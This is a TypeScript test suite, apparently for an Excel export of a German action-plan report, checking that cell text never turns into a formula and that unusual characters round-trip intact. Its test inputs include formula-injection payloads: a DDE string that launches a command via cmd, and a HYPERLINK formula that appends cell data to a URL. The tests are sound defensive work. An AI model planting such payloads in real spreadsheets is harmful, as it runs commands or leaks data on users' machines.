import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ReportModel } from '../../../src/report/report-model';
import { assessment, measure } from '../sample';
import { modelOf, partOf, partsOf, sheetsOf } from './read-xlsx';

/** A plan whose first measure has this text. */
function planWith(text: string): ReportModel {
  const model = modelOf({ scope: 'plan' }, assessment({ measures: [measure()] }));
  const [row] = model.plan.rows;
  if (row) row.cells.measure = text;
  return model;
}

const readBack = async (text: string) => (await sheetsOf(planWith(text))).Maßnahmenplan?.[1]?.[1];

/** What the standard says _xHHHH_ means. */
const unescaped = (text: string) =>
  text.replace(/_x([\da-f]{4})_/gi, (_, code) => String.fromCharCode(Number.parseInt(code, 16)));

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://example.org/?"&A1;"Klick")',
  '+49 30 1234',
  '-5 Grad',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  "=cmd|'/c calc'!A0",
  'a;=1',
  'a"=1',
  'a\n=1',
];

describe('F58 nothing in the Excel file becomes a formula', () => {
  test.each(FORMULAS)('%j is text and comes back the same', async (text) => {
    expect(await readBack(text)).toBe(text);
    const sheet = await partOf(planWith(text), 'xl/worksheets/sheet1.xml');
    expect(sheet.querySelector('c[r="B2"]')?.getAttribute('t')).toBe('inlineStr');
    expect(sheet.querySelector('f')).toBeNull();
  });

  test.each(FORMULAS.slice(0, 8))('%j stays text when somebody edits its cell', async (text) => {
    const sheet = await partOf(planWith(text), 'xl/worksheets/sheet1.xml');
    const styles = await partOf(planWith(text), 'xl/styles.xml');
    const cell = sheet.querySelector('c[r="B2"]');
    const formats = styles.querySelectorAll('cellXfs > xf');
    expect(formats[Number(cell?.getAttribute('s'))]?.getAttribute('quotePrefix')).toBe('1');
  });

  test('heads, names and the sheet about the file hold none either', async () => {
    const model = modelOf({}, assessment({ name: '=1+1', measures: [measure()] }));
    model.plan.columns[0] = { id: 'checkpoint', label: '=A1' };
    const parts = await partsOf(model);
    for (const part of Object.values(parts)) expect(part.querySelector('f')).toBeNull();
    const sheets = await sheetsOf(model);
    expect(sheets.Maßnahmenplan?.[0]?.[0]).toBe('=A1');
    expect(sheets['Über diese Datei']?.[2]?.[1]).toBe('=1+1');
  });
});

describe('text that means something to the file', () => {
  test.each([
    ['tags', '<b>&amp;</b> ]]> <!-- -->'],
    ['quotes', '"doppelt" und \'einfach\''],
    ['what looks like an escape', '_x0041_ _x000D_ _x005F_ __x0041__ _X0041_'],
    ['line breaks of every kind', 'a\nb\r\nc\rd'],
    ['tabs and blanks at the ends', ' \t a \t '],
    ['control characters', 'a\u0000b\u0007c\u001fd\u007fe\u0085f'],
    ['half characters', 'a\ud83d b\ude00'],
    ['what is no character', 'a\ufffe\uffffb'],
    ['emoji and right to left', '👩‍👩‍👧 שלום \u202eabc'],
  ])('%s come back the same, also from a strict reader of XML', async (_, text) => {
    expect(await readBack(text)).toBe(text);
    const sheet = await partOf(planWith(text), 'xl/worksheets/sheet1.xml');
    const held = sheet.querySelector('c[r="B2"] t');
    expect(unescaped(held?.textContent ?? '')).toBe(text);
    expect(held?.getAttribute('xml:space')).toBe('preserve');
  });

  test('a number or a day in a text stays text', async () => {
    expect(await readBack('1')).toBe('1');
    expect(await readBack('1-2')).toBe('1-2');
    expect(await readBack('01.02.2026')).toBe('01.02.2026');
  });
});

describe('what a cell holds', () => {
  test('is 32,767 characters: these come back whole', async () => {
    const text = 'ä'.repeat(32_767);
    expect(await readBack(text)).toBe(text);
  });

  test.each([32_600, 32_601])(
    'a longer text says that and where it is cut, and splits no character (%i)',
    async (letters) => {
      const cut = String(await readBack(`${'a'.repeat(letters)}${'😀'.repeat(400)}`));
      expect(cut).toMatch(/^a+(?:😀)+ … \[Hier gekürzt: .* Vollständig steht er im PDF\.\]$/u);
      expect(cut.isWellFormed()).toBe(true);
      expect(cut.length).toBeLessThanOrEqual(32_767);
      expect(cut.length).toBeGreaterThan(32_764);
    },
  );
});

const units = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
const texts = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: units }),
  fc.string({ unit: fc.constantFrom(...'_x0041D<>&"\r\n\t ='), maxLength: 30 }),
);

test('F58 any text in any cell comes back the same', async () => {
  await fc.assert(
    fc.asyncProperty(texts, async (text) => {
      // No text and an empty one are the same to a spreadsheet.
      expect((await readBack(text)) ?? '').toBe(text);
    }),
    { numRuns: 300 },
  );
});
